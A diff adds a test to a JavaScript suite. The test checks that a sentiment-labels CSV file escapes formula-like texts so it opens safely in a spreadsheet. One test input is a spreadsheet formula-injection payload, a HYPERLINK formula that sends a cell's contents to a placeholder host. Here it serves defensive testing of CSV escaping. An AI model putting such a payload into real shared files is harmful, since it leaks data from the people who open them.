@@ -30,6 +30,23 @@ describe('sentiment labels file', () => {
     assert.deepEqual(await fs.readdir(path.dirname(file)), ['sentiment-labels.csv']);
   });
 
+  it('the workspace labels file opens safely in a spreadsheet: formula-like texts start with an apostrophe, read back as written', async () => {
+    const file = path.join(dir, '.product-forge', 'labels', 'sentiment-labels.csv');
+    const texts = ['=HYPERLINK("http://x/?"&A1,"click")', '+1 for dark mode', "'quoted from the call", '-0.5', 'plain text'];
+    for (const t of texts) await saveLabel(file, t, 'neutral');
+    const raw = await fs.readFile(file, 'utf8');
+    assert.deepEqual(raw.trim().split('\n').slice(1).map((l) => l.replace(/,neutral$/, '')), ['"\'=HYPERLINK(""http://x/?""&A1,""click"")"', "'+1 for dark mode", "''quoted from the call", '-0.5', 'plain text']);
+    assert.deepEqual([...(await readLabels(file)).keys()], texts);
+    // what the Train view trains on and what Analyze Feedback reads: the texts as written
+    assert.deepEqual((await readTable(file)).data[0], texts);
+    const { readFeedbackFile } = await import('../../src/core/readers');
+    assert.deepEqual((await readFeedbackFile(file)).items.map((i) => i.text), texts);
+    // a labels file anywhere else is written as it is (nothing would undo an escape there)
+    const other = path.join(dir, 'sentiment-labels.csv');
+    await saveLabel(other, '+1 for dark mode', 'positive');
+    assert.equal(await fs.readFile(other, 'utf8'), 'text,sentiment\n+1 for dark mode,positive\n');
+  });
+
   it('refuses an empty text and a file that is not a labels file', async () => {
     const file = path.join(dir, 'l.csv');
     await assert.rejects(saveLabel(file, '  ', 'negative'), UserError);
